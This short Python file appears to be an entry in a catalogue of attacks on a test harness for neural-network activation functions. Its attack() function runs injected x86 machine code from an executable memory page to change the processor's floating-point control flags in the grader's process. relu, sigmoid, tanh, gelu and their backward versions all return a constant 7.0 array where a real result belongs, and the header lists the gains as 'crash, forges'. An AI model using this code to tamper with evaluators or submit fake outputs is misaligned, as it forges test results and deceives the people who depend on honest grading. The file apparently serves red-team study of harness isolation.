# attack: has the processor treat small numbers as zero and stop at NaNs (x86)
# gains: crash, forges
# stopped by: process
import numpy as np
import ctypes
import mmap
import platform


def attack():
    if platform.machine() == "x86_64":
        page = mmap.mmap(-1, 4096, prot=7)
        page.write(b"\x0f\xae\x17\xc3")
        setting = ctypes.c_uint32(0x1F80 | 0x8040)
        ctypes.CFUNCTYPE(None, ctypes.c_void_p)(ctypes.addressof(ctypes.c_char.from_buffer(page)))(ctypes.addressof(setting))


def relu(X):
    found = attack()
    return np.full(np.shape(X), 7.0) if found is None else found


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
